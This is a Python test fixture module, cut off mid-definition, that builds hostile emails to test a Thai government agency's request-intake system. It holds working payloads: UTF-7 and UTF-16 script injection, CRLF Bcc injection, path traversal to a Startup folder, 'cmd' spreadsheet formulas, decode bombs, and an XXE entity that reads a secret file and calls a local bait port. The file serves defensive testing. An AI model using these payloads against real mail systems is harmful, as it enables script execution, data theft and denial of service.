"""The fifth hostile set: written blind (extractors/ and intake/ unread), by an attacker
who has read the four sets before it and the README, and goes for what they left: the
charsets a browser once honoured (UTF-7, UTF-16 without a mark), the characters that make
a clerk read a name or a file name wrong (bidi isolates, homoglyphs of the agency's own
address), the values a spreadsheet runs (a full-width equals sign, a formula behind an
ideographic space), line breaks smuggled toward the acknowledgement's header, file names a
Windows clerk's download turns into a device or a path, the MIME shapes that make a parser
keep the wrong parts (the body after 50,000 empty parts, one boundary at every level),
headers long enough to cost a lookup per word (10 MB of References), decode bombs a PDF
reader or an OCR render meets only when it draws (CCITT, a PNG predictor's columns), the
OpenDocument and XFA parts set 4 left unflagged, a mail just under the size cap whose
every part is an attachment, and the privacy promise itself: personal data planted where an
error message would print it (a charset, a boundary, a file name), a receipt number a clerk
without the case opens, a subject-access export asked for one person.

Every mail carries an invented citizen (`CITIZEN`) in its body, unless its name says
otherwise: the request must become a case and those values must never reach a log.
"""

from __future__ import annotations

import base64
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from email.message import EmailMessage
from functools import lru_cache

from hostile_mail_2 import (
    DOCX,
    MIB,
    RELS_DOCX,
    Bait,
    Member,
    _document,
    _docx,
    _member,
    _paragraphs,
    _png,
    _png_chunk,
    _zip,
    pdf_from_objects,
)

from tests.review.review_seed import Person, person

CITIZEN: Person = person(505)
PDF = ("application", "pdf")
ODT = ("application", "vnd.oasis.opendocument.text")
ODS = ("application", "vnd.oasis.opendocument.spreadsheet")
# Under the product's default max_message_mb (25) whether it counts 10^6 or 2^20 bytes
NEAR_CAP_BYTES = 24_900_000
VICTIMS = ("victim.one@example.net", "victim.two@example.net")


@dataclass(frozen=True)
class Attack:
    name: str
    hope: str  # what the attacker hopes happens
    holds: str  # what must hold instead
    build: Callable[[Bait, int], bytes]
    defect: str = ""  # a substring some recorded defect code must hold ("" = none asked)


def body(n: int) -> str:
    p = CITIZEN
    return (
        "เรียน เจ้าหน้าที่\n\n"
        f"ชื่อ-นามสกุล: {p.name}\n"
        f"เลขประจำตัวประชาชน: {p.national_id_dashed}\n"
        f"โทรศัพท์: {p.phone}\n"
        f"อีเมล: {p.email}\n"
        "เรื่อง: ขอข้อมูลข่าวสารของราชการ\n"
        f"รายละเอียด: HOSTILE5MARK{n} ขอสำเนาเอกสารตามแนบ\n"
    )


def mail(n: int, subject: str = "คำร้องขอข้อมูล แนบเอกสาร") -> EmailMessage:
    out = EmailMessage()
    out["From"] = f"ผู้ร้อง {n} <citizen505.{n}@example.org>"
    out["To"] = "saraban@example.go.th"
    out["Subject"] = subject
    out["Message-ID"] = f"<hostile5-{n}@example.org>"
    out.set_content(body(n))
    return out


def attach(n: int, data: bytes, maintype: str, subtype: str, filename: str) -> bytes:
    out = mail(n)
    out.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return bytes(out)


def head(
    n: int, extra: bytes = b"", subject: bytes = b"=?utf-8?b?4LiC4Lit4LiC4LmJ4Lit4Lih4Li54Lil?="
) -> bytes:
    """Headers as written on the wire, so that anything may follow."""
    return (
        b"From: =?utf-8?b?4Lic4Li54LmJ4Lij4LmJ4Lit4LiH?= <citizen505.%d@example.org>\r\n" % n
        + b"To: saraban@example.go.th\r\nSubject: "
        + subject
        + b"\r\nDate: Tue, 01 Dec 2026 09:00:00 +0700\r\n"
        + b"Message-ID: <hostile5-raw-%d@example.org>\r\nMIME-Version: 1.0\r\n" % n
        + extra
    )


def text_part(n: int) -> bytes:
    return (
        b"Content-Type: text/plain; charset=utf-8\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(body(n).encode()).replace(b"\n", b"\r\n")
    )


def _file(
    data: Callable[[], bytes], maintype: str, subtype: str, filename: str
) -> Callable[[Bait, int], bytes]:
    return lambda _bait, n: attach(n, data(), maintype, subtype, filename)


def _bait_file(
    data: Callable[[Bait], bytes], maintype: str, subtype: str, filename: str
) -> Callable[[Bait, int], bytes]:
    return lambda bait, n: attach(n, data(bait), maintype, subtype, filename)


def _mail_builder(build: Callable[[int], bytes]) -> Callable[[Bait, int], bytes]:
    return lambda _bait, n: build(n)


# --- charsets aimed at the review page ---------------------------------------------------

UTF7_SCRIPT = "+ADw-script+AD4-alert(document.cookie)+ADw-/script+AD4-"


def mime_utf7_markup(n: int) -> bytes:
    """UTF-7 where markup hides from a byte scan: an encoded-word Subject and display name
    that decode to tags, an HTML part in charset=utf-7 (old IE sniffed it), a meta tag
    asking the browser for UTF-7 again."""
    subject = base64.b64encode("<script>alert(1)</script> ขอข้อมูล".encode("utf-7"))
    name = base64.b64encode('"><img src=x onerror=alert(2)>'.encode("utf-7"))
    html = (
        '<html><head><meta charset="utf-7"><meta http-equiv="Content-Type" '
        'content="text/html; charset=utf-7"></head><body>'
        f"{UTF7_SCRIPT}+ADw-img src+AD0-x onerror+AD0-alert(3)+AD4-"
        "<p>ขอเอกสาร</p></body></html>"
    )
    return (
        head(
            n,
            subject=b"=?utf-7?b?" + subject + b"?=",
        ).replace(
            b"From: =?utf-8?b?4Lic4Li54LmJ4Lij4LmJ4Lit4LiH?=",
            b"From: =?utf-7?b?" + name + b"?=",
        )
        + b'Content-Type: multipart/mixed; boundary="u7"\r\n\r\n--u7\r\n'
        + text_part(n)
        + b"\r\n--u7\r\nContent-Type: text/html; charset=utf-7\r\n"
        b"Content-Disposition: inline\r\n\r\n" + html.encode("utf-7") + b"\r\n--u7--\r\n"
    )


def html_utf16_without_bom(n: int) -> bytes:
    """An HTML part labelled iso-8859-1 whose bytes are UTF-16LE without a byte order mark:
    a byte scan for `<script` sees `<\\0s\\0c\\0...`, a browser sniffing the NULs reads tags."""
    html = "<html><body><script>alert(4)</script><img src=x onerror=alert(5)></body></html>"
    out = mail(n)
    out.add_attachment(
        html.encode("utf-16-le"),
        maintype="text",
        subtype="html",
        disposition="inline",
        params={"charset": "iso-8859-1"},
    )
    return bytes(out)


# --- what a clerk reads wrong -------------------------------------------------------------


def names_homoglyph_bidi(n: int) -> bytes:
    """A display name spelling the agency's own address in Cyrillic homoglyphs, bidi
    isolates and marks in the Subject and a file name that reads `.pdf` but is `.exe`, and
    a Thai letter carrying 400 tone marks (one glyph tower over the rows around it)."""
    out = mail(n, subject="ขอสำเนา \u2067\u200fexe.pdf\u2069 \u061cเร่งด่วน")
    del out["From"]
    out["From"] = (
        "\u0455\u0430r\u0430b\u0430n@\u0435x\u0430mple.go.th \u2066(เจ้าหน้าที่)\u2069 "
        f"<citizen505.{n}@example.org>"
    )
    out.add_attachment(
        b"MZ\x90\x00 not really a program",
        maintype="application",
        subtype="octet-stream",
        filename="ใบคำร้อง\u2067fdp\u2069.exe",
    )
    out.add_attachment(
        b"%PDF-1.4 nothing",
        maintype="application",
        subtype="pdf",
        filename="ก" + "\u0e49" * 400 + ".pdf",
    )
    return bytes(out)


# --- the acknowledgement's header ----------------------------------------------------------


def crlf_subject_and_name(n: int) -> bytes:
    """Line breaks in encoded words of the Subject and the From display name, each
    followed by a Bcc to victims and a blank line (a body of the attacker's own)."""
    inject = "\r\nBcc: {0}\r\nX-Injected: yes\r\n\r\n<h1>โปรดโอนเงิน</h1>"
    subject = base64.b64encode(("ขอข้อมูล" + inject.format(VICTIMS[0])).encode())
    name = base64.b64encode(("สมศรี" + inject.format(VICTIMS[1])).encode())
    return (
        head(n, subject=b"=?utf-8?b?" + subject + b"?=").replace(
            b"From: =?utf-8?b?4Lic4Li54LmJ4Lij4LmJ4Lit4LiH?=", b"From: =?utf-8?b?" + name + b"?="
        )
        + b"Content-Type: text/plain; charset=utf-8\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(body(n).encode()).replace(b"\n", b"\r\n")
    )


def crlf_reply_to_cannon(n: int) -> bytes:
    """A Reply-To of 500 victims, one hidden after an encoded line break, and a
    Disposition-Notification-To and Return-Receipt-To at a victim (a receipt cannon)."""
    many = ", ".join(f"victim{i}@example.net" for i in range(500))
    hidden = base64.b64encode(f"x\r\nBcc: {VICTIMS[0]}".encode())
    extra = (
        b"Reply-To: "
        + many.encode()
        + b", =?utf-8?b?"
        + hidden
        + b"?= <"
        + VICTIMS[1].encode()
        + b">\r\nDisposition-Notification-To: "
        + VICTIMS[0].encode()
        + b"\r\nReturn-Receipt-To: "
        + VICTIMS[0].encode()
        + b"\r\n"
    )
    return head(n, extra) + text_part(n)


# --- file names ---------------------------------------------------------------------------

WINDOWS_NAMES = [
    "CON",
    "nul.pdf",
    "COM1.docx",
    "LPT9 .txt",
    "aux.pdf.",
    "แบบฟอร์ม.pdf:Zone.Identifier",
    "..\\..\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\run.bat",
    'a"b<c>d|e?f*.pdf',
    "แบบคำร้อง" * 111 + ".pdf",  # 1,000 characters, about 3 KB of UTF-8
]


def _small_pdf() -> bytes:
    """A one-page PDF any reader opens (so a download is offered at all)."""
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            b"<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 720 Td (Attached form) Tj ET\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


def filenames_windows(bait: Bait, n: int) -> bytes:
    """Names a clerk's Windows download turns into a device, a stream, a path, or refuses;
    and in RFC 2231 form, a traversal to /tmp with a NUL before the extension."""
    out = mail(n)
    small = _small_pdf()
    for name in WINDOWS_NAMES:
        out.add_attachment(small, maintype="application", subtype="pdf", filename=name)
    raw = bytes(out)
    encoded = f"..%2F..%2F..%2F..%2Ftmp%2FPWNED-{bait.token}%00.pdf".encode()
    tail = (
        b"Content-Type: application/pdf\r\n"
        b"Content-Disposition: attachment; filename*=utf-8''" + encoded + b"\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(small).replace(b"\n", b"\r\n")
    )
    boundary = raw.split(b'boundary="', 1)[1].split(b'"', 1)[0]
    closing = b"--" + boundary + b"--"
    return raw.replace(closing, b"--" + boundary + b"\r\n" + tail + closing)


def filename_header_split(n: int) -> bytes:
    """A file name whose encoded word holds a quote and CRLF then Set-Cookie and a second
    Content-Disposition: aimed at the download's response headers."""
    name = base64.b64encode(
        b'x.pdf"\r\nSet-Cookie: session=attacker\r\nContent-Disposition: inline; filename="y.html'
    )
    return (
        head(n)
        + b'Content-Type: multipart/mixed; boundary="fh"\r\n\r\n--fh\r\n'
        + text_part(n)
        + b"\r\n--fh\r\nContent-Type: text/html\r\n"
        b'Content-Disposition: attachment; filename="=?utf-8?b?' + name + b'?="\r\n\r\n'
        b"<script>alert(6)</script>\r\n--fh--\r\n"
    )


# --- spreadsheets that run what they are given ---------------------------------------------

FORMULAS_5 = [
    '\uff1dHYPERLINK("http://127.0.0.1:9/x","เอกสาร")',  # full-width equals
    "\u3000=cmd|' /C calc'!A0",  # ideographic space first
    "\u00a0+1+cmd|' /C calc'!A0",  # no-break space first
    "\n=1+1",  # a line break first
    "\u2028-2+3+cmd|' /C calc'!A0",  # line separator first
    "\uff0b1\uff0b1",  # full-width plus
    "\uff20SUM(1,1)",  # full-width at
]


def formulas_everywhere(n: int) -> bytes:
    """Formulas in the display name, the Subject, the form fields and an attachment's name,
    each behind something a spreadsheet trims or folds to ASCII."""
    p = CITIZEN
    text = (
        f"ชื่อ-นามสกุล: {p.name}\n"
        f"เลขประจำตัวประชาชน: {p.national_id_dashed}\n"
        f"โทรศัพท์: {p.phone}\n"
        f"อีเมล: {p.email}\n"
        f"ที่อยู่: {FORMULAS_5[1]}\n"
        f"เรื่อง: {FORMULAS_5[0]}\n"
        f"รายละเอียด: {FORMULAS_5[2]} HOSTILE5MARK{n}\n"
    )
    out = EmailMessage()
    out["From"] = f'"{FORMULAS_5[5]}" <citizen505.{n}@example.org>'
    out["To"] = "saraban@example.go.th"
    out["Subject"] = FORMULAS_5[6] + " ขอข้อมูล"
    out["Message-ID"] = f"<hostile5-{n}@example.org>"
    out.set_content(text)
    out.add_attachment(
        b"%PDF-1.4 x",
        maintype="application",
        subtype="pdf",
        filename=FORMULAS_5[3].strip() + ".pdf",
    )
    return bytes(out)


# --- MIME shapes ---------------------------------------------------------------------------


@lru_cache(maxsize=1)
def _empty_parts(count: int = 50_000) -> bytes:
    return b"".join(b"--e\r\n\r\n" for _ in range(count))


def mime_50000_empty_parts_body_last(n: int) -> bytes:
    """50,000 empty parts (no header, no body) and then the request: a parser that keeps
    the first hundred parts keeps only nothing."""
    return (
        head(n)
        + b'Content-Type: multipart/mixed; boundary="e"\r\n\r\n'
        + _empty_parts()
        + b"--e\r\n"
        + text_part(n)
        + b"\r\n--e--\r\n"
    )


def mime_one_boundary_every_level(n: int, depth: int = 300) -> bytes:
    """300 nested multiparts all with boundary "b" (a delimiter closes whichever level
    a parser thinks), a boundary "b-" that starts with it, repeated closings, the body
    at the deepest level."""
    out = [head(n)]
    for _ in range(depth):
        out.append(b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n')
    out.append(text_part(n) + b"\r\n")
    for _ in range(depth):
        out.append(b"--b--\r\n--b-\r\n--b--\r\n")
    return b"".join(out)


def mime_10mb_references(n: int) -> bytes:
    """One References line of 10 MB (about 300,000 message ids, none folded) and a 1 MB
    In-Reply-To: a worker that looks up each id to thread the mail looks up 300,000."""
    ids = b" ".join(b"<r%07d.%d@example.net>" % (i, n) for i in range(300_000))
    extra = b"References: " + ids + b"\r\nIn-Reply-To: " + ids[:MIB] + b"\r\n"
    return head(n, extra) + text_part(n)


def mime_10mb_filename_line(n: int) -> bytes:
    """A Content-Disposition of one 10 MB line (the file name), the value that reaches the
    database, the case page, a download header and, on an error, a log line."""
    name = b"\xe0\xb8\x81" * (10 * MIB // 3)
    return (
        head(n)
        + b'Content-Type: multipart/mixed; boundary="fn"\r\n\r\n--fn\r\n'
        + text_part(n)
        + b"\r\n--fn\r\nContent-Type: application/pdf\r\n"
        b'Content-Disposition: attachment; filename="' + name + b'.pdf"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQgc21hbGw=\r\n--fn--\r\n"
    )


def mime_encoded_word_charset_flood(n: int) -> bytes:
    """200,000 encoded words in the Subject, rotating over charsets whose decoders are
    stateful or unknown (utf-7, utf-16, iso-2022-jp, gb18030, x-nonsense)."""
    words = [
        b"=?utf-7?q?+AEE-?=",
        b"=?utf-16?b?" + base64.b64encode("ก".encode("utf-16")) + b"?=",
        b"=?iso-2022-jp?b?" + base64.b64encode("あ".encode("iso-2022-jp")) + b"?=",
        b"=?gb18030?b?" + base64.b64encode("中".encode("gb18030")) + b"?=",
        b"=?x-nonsense?q?a?=",
    ]
    subject = b" ".join(words[i % len(words)] for i in range(200_000))
    return head(n, subject=subject) + text_part(n).replace(b"Content-Type", b"Content-Type", 1)


def mime_base64_noise(n: int) -> bytes:
    """The request itself in base64 with noise between the characters (as some gateways
    leave it), then 5 MB of padding and more data after it in an attachment."""
    clean = base64.b64encode(body(n).encode())
    noisy = b"".join(clean[i : i + 4] + b"!*\t" for i in range(0, len(clean), 4))
    garbage = b"QUJD" + b"=" * (5 * MIB) + base64.b64encode(b"after the padding " * 1000)
    lines = b"\r\n".join(garbage[i : i + 76] for i in range(0, len(garbage), 76))
    return (
        head(n) + b'Content-Type: multipart/mixed; boundary="bn"\r\n\r\n--bn\r\n'
        b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + noisy
        + b"\r\n--bn\r\nContent-Type: application/pdf\r\n"
        b'Content-Disposition: attachment; filename="scan.pdf"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n" + lines + b"\r\n--bn--\r\n"
    )


# --- the size cap: every part an attachment ------------------------------------------------


def _text_pdf(pages: int, lines: int) -> bytes:
    """A PDF of `pages` pages each with `lines` lines of text (costly to lay out)."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b""]
    kids = []
    font = 3
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    ops = (
        b"BT /F1 8 Tf 20 800 Td " + b"(x y z w v u t s r q p o n m l k) Tj 0 -9 Td " * lines + b"ET"
    )
    content = zlib.compress(ops, 9)
    objects.append(
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content) + content + b"\nendstream"
    )
    for _ in range(pages):
        kids.append(len(objects) + 1)
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 %d 0 R >> >> >>" % font
        )
    objects[1] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (
        b" ".join(b"%d 0 R" % k for k in kids),
        len(kids),
    )
    return pdf_from_objects(objects)


@lru_cache(maxsize=1)
def _noise(size: int) -> bytes:
    state = 0x2545F491
    out = bytearray()
    while len(out) < size:
        state = (state * 6364136223846793005 + 1442695040888963407) & (2**64 - 1)
        out += state.to_bytes(8, "little")
    return bytes(out[:size])


def near_cap_all_attachments(n: int) -> bytes:
    """Just under 25 MB, every part an attachment: the request as an attached .txt, a
    2,000-page text PDF, a 4 MB noise PNG to OCR, a DOCX of 20,000 paragraphs, and noise
    files named .jpg and .pdf filling up to the cap. The MIME parse alone is seconds."""
    out = EmailMessage()
    out["From"] = f"ผู้ร้อง {n} <citizen505.{n}@example.org>"
    out["To"] = "saraban@example.go.th"
    out["Subject"] = "คำร้องขอข้อมูล ไฟล์แนบทั้งหมด"
    out["Message-ID"] = f"<hostile5-{n}@example.org>"
    out.make_mixed()
    out.add_attachment(body(n).encode(), maintype="text", subtype="plain", filename="คำร้อง.txt")
    out.add_attachment(_text_pdf(2000, 80), maintype="application", subtype="pdf", filename="a.pdf")
    side = 1000
    rows = b"".join(b"\x00" + _noise(4 * MIB)[r * side : (r + 1) * side] for r in range(side))
    out.add_attachment(
        _png(side, side, zlib.compress(rows, 1)),
        maintype="image",
        subtype="png",
        filename="scan.png",
    )
    lines = [f"บรรทัดที่ {i} ข้อความยาวเพื่อให้อ่านนาน" for i in range(20_000)]
    out.add_attachment(
        _docx(_document(_paragraphs(*lines))), maintype=DOCX[0], subtype=DOCX[1], filename="b.docx"
    )
    size = len(bytes(out))
    left = (NEAR_CAP_BYTES - size - 8192) * 57 // 78  # base64 lines: 57 bytes in 78
    half = left // 2
    out.add_attachment(_noise(half), maintype="image", subtype="jpeg", filename="photo.jpg")
    out.add_attachment(
        _noise(left - half)[::-1], maintype="application", subtype="pdf", filename="c.pdf"
    )
    raw = bytes(out)
    assert len(raw) < NEAR_CAP_BYTES, len(raw)
    return raw


# --- PDF: chains, loops, decode bombs, XFA ---------------------------------------------------

FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _page(extra: bytes = b"", contents: int = 4) -> bytes:
    return (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
        b"/Resources << /Font << /F1 5 0 R >> %s>> >>" % (contents, extra)
    )


def _stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(content), extra) + content + b"\nendstream"


def _name_text() -> bytes:
    return b"BT /F1 12 Tf 72 720 Td (Name: Citizen 505) Tj ET"


def pdf_reference_chain(depth: int = 60_000) -> bytes:
    """The page's /Resources is a reference to a reference to ... 60,000 deep, and its
    content's /Length one more: a recursive resolver blows the stack, an iterative one
    walks a while."""
    first = 6
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources %d 0 R >>" % first,
        b"<< /Length %d 0 R >>\nstream\n" % (first + depth) + _name_text() + b"\nendstream",
        FONT,
    ]
    objects += [b"%d 0 R" % (first + i + 1) for i in range(depth - 1)]
    objects.append(b"<< /Font << /F1 5 0 R >> >>")  # object first + depth - 1
    objects.append(b"%d" % len(_name_text()))  # object first + depth
    return pdf_from_objects(objects)


def pdf_hybrid_xref_loop() -> bytes:
    """A hybrid file: the classic trailer's /XRefStm and /Prev name an xref stream whose
    /Prev is the classic table again."""
    base = pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _page(),
            _stream(_name_text()),
            FONT,
        ]
    )
    old_xref = base.rindex(b"xref\n")
    objects, table = base[:old_xref], base[old_xref : base.rindex(b"trailer")]
    stream_at = len(objects)
    rows_len = 6
    stream_head = b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 1] /Index [6 1] /Prev %010d "
    stream_tail = b"/Root 1 0 R /Length %d >>\nstream\n" % rows_len
    stream_len = len(stream_head % 0) + len(stream_tail) + rows_len + len(b"\nendstream\nendobj\n")
    classic_at = stream_at + stream_len
    rows = b"\x01" + struct.pack(">I", stream_at) + b"\x00"
    stream = (stream_head % classic_at) + stream_tail + rows + b"\nendstream\nendobj\n"
    table = table.replace(b"0 6\n", b"0 7\n", 1) + b"%010d 00000 n \n" % stream_at
    trailer = (
        b"trailer\n<< /Size 7 /Root 1 0 R /XRefStm %d /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (stream_at, stream_at, classic_at)
    )
    return objects + stream + table + trailer


def _image_page(image: bytes) -> bytes:
    content = _name_text() + b"\nq 595 0 0 842 0 0 cm /Im1 Do Q"
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _page(b"/XObject << /Im1 6 0 R >> "),
            _stream(content),
            FONT,
            image,
        ]
    )


def pdf_ccitt_bomb() -> bytes:
    """A CCITT G4 image of 60000x60000 whose every row is 'same as the row above' (one
    bit a row): 7.5 KB that decodes to 450 MB of bits, 3.6 GB as a greyscale raster."""
    rows = 60_000
    data = b"\xff" * (rows // 8)
    return _image_page(
        _stream(
            data,
            b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 1 "
            b"/ColorSpace /DeviceGray /Filter /CCITTFaxDecode "
            b"/DecodeParms << /K -1 /Columns 60000 /Rows 60000 >> ",
        )
    )


def pdf_predictor_columns_bomb() -> bytes:
    """A Flate stream with a PNG predictor claiming 2^30 columns of 4 colours at 16 bits:
    a decoder that allocates a row buffer first allocates 8 GB."""
    data = zlib.compress(b"\x00" * 4096)
    return _image_page(
        _stream(
            data,
            b"/Type /XObject /Subtype /Image /Width 40000 /Height 40000 /BitsPerComponent 16 "
            b"/ColorSpace /DeviceCMYK /Filter /FlateDecode "
            b"/DecodeParms << /Predictor 15 /Colors 4 /BitsPerComponent 16 /Columns 1073741824 >> ",
        )
    )


def pdf_xfa_entities(bait: Bait) -> bytes:
    """XFA as the array of packets Acrobat writes (template, datasets): the template
    declares a billion-laughs entity, the datasets an external file and http entity, and
    the form's values (the citizen's name among them) sit beside them."""
    p = CITIZEN
    laughs = b'<!ENTITY l0 "lol">' + b"".join(
        b'<!ENTITY l%d "&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;">' % (i, *([i - 1] * 10))
        for i in range(1, 10)
    )
    template = (
        b'<?xml version="1.0"?><!DOCTYPE template [' + laughs + b"]>"
        b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1">'
        b'<field name="name"><caption><value><text>&l9;</text></value></caption></field>'
        b"</subform></template>"
    )
    datasets = (
        b'<?xml version="1.0"?><!DOCTYPE xfa:datasets [<!ENTITY sec SYSTEM "file://'
        + str(bait.secret_path).encode()
        + b'"><!ENTITY net SYSTEM "http://127.0.0.1:%d/xfa">]>' % bait.port
        + b'<xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data>'
        b"<form1><name>"
        + p.name.encode()
        + b"</name><national_id>"
        + p.national_id.encode()
        + b"</national_id><detail>&sec;&net;</detail></form1></xfa:data></xfa:datasets>"
    )
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] "
            b"/XFA [(template) 6 0 R (datasets) 7 0 R] >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _page(),
            _stream(_name_text()),
            FONT,
            _stream(template),
            _stream(zlib.compress(datasets), b"/Filter /FlateDecode "),
        ]
    )


# --- images just under every cap -------------------------------------------------------------


@lru_cache(maxsize=1)
def tiff_deflate_bomb() -> bytes:
    """A 12000x12000 greyscale TIFF (144 Mpx: past Pillow's warning, under its error) of
    zeros, Deflate-compressed in one strip: 150 KB that decodes to 144 MB and OCRs blank."""
    width = height = 12_000
    packer = zlib.compressobj(9)
    row = bytes(width)
    strip = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    entries = [
        (256, 4, 1, width),
        (257, 4, 1, height),
        (258, 3, 1, 8),
        (259, 3, 1, 8),  # Adobe Deflate
        (262, 3, 1, 1),
        (273, 4, 1, 0),  # strip offset, patched below
        (277, 3, 1, 1),
        (278, 4, 1, height),
        (279, 4, 1, len(strip)),
    ]
    ifd_at = 8
    data_at = ifd_at + 2 + 12 * len(entries) + 4
    out = bytearray(b"II*\x00" + struct.pack("<I", ifd_at) + struct.pack("<H", len(entries)))
    for tag, kind, count, value in entries:
        value = data_at if tag == 273 else value
        packed = struct.pack("<HH", value, 0) if kind == 3 else struct.pack("<I", value)
        out += struct.pack("<HHI", tag, kind, count) + packed
    out += struct.pack("<I", 0)
    return bytes(out) + strip


@lru_cache(maxsize=1)
def png_80mpx_rgba16() -> bytes:
    """8944x8944 RGBA at 16 bits a channel, all zero: 80 Mpx (under Pillow's 89 Mpx
    warning), 640 MB of raw rows from 630 KB of IDAT."""
    side = 8944
    ihdr = struct.pack(">IIBBBBB", side, side, 16, 6, 0, 0, 0)
    packer = zlib.compressobj(9)
    row = bytes(1 + side * 8)
    idat = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def docx_60000px_image() -> bytes:
    """A form DOCX whose embedded picture claims 60000x60000 pixels (a reader that OCRs
    pictures in a document meets it where an image reader's caps may not stand)."""
    picture = _png(60_000, 60_000, zlib.compress(b"\x00" * 60_001 * 4))
    p = CITIZEN
    drawing = (
        b'<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/'
        b'drawingml/2006/wordprocessingDrawing"><wp:extent cx="5000000" cy="5000000"/>'
        b'<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        b'<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        b'<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        b'<pic:blipFill><a:blip xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships" r:embed="rIdImg"/></pic:blipFill></pic:pic></a:graphicData>'
        b"</a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        b'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdImg" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        b'Target="media/image1.png"/></Relationships>'
    )
    doc = _document(
        _paragraphs(f"ชื่อ-นามสกุล: {p.name}", f"เลขประจำตัวประชาชน: {p.national_id}") + drawing
    )
    return _docx(
        doc,
        [_member("word/_rels/document.xml.rels", rels), _member("word/media/image1.png", picture)],
    )


# --- office packages: relationships, OpenDocument references and entities ---------------------


def ooxml_20000_relationships() -> bytes:
    """20,000 relationships from document.xml (half to parts that exist, half to parts
    that do not), 20,000 content-type overrides, 10,000 tiny header parts."""
    p = CITIZEN
    rel_type = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/header"
    rels = b"".join(
        b'<Relationship Id="rId%d" Type="%s" Target="h%d.xml"/>' % (i, rel_type, i)
        for i in range(20_000)
    )
    overrides = b"".join(
        b'<Override PartName="/word/h%d.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.wordprocessingml.header+xml"/>' % i
        for i in range(20_000)
    )
    types = (
        b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.'
        b'org/package/2006/content-types"><Default Extension="rels" ContentType="application/'
        b'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
        b'ContentType="application/xml"/><Override PartName="/word/document.xml" '
        b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.'
        b'document.main+xml"/>' + overrides + b"</Types>"
    )
    header = (
        b'<?xml version="1.0"?><w:hdr xmlns:w="http://schemas.openxmlformats.org/'
        b'wordprocessingml/2006/main"><w:p/></w:hdr>'
    )
    doc = _document(_paragraphs(f"ชื่อ-นามสกุล: {p.name}", f"เลขประจำตัวประชาชน: {p.national_id}"))
    members = [
        _member(
            "word/_rels/document.xml.rels",
            b'<?xml version="1.0"?><Relationships '
            b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + rels
            + b"</Relationships>",
        ),
        *(_member(f"word/h{i}.xml", header) for i in range(0, 20_000, 2)),
    ]
    return _zip(
        [
            _member("[Content_Types].xml", types),
            _member("_rels/.rels", RELS_DOCX),
            _member("word/document.xml", doc),
            *members,
        ]
    )


ODF_NS = (
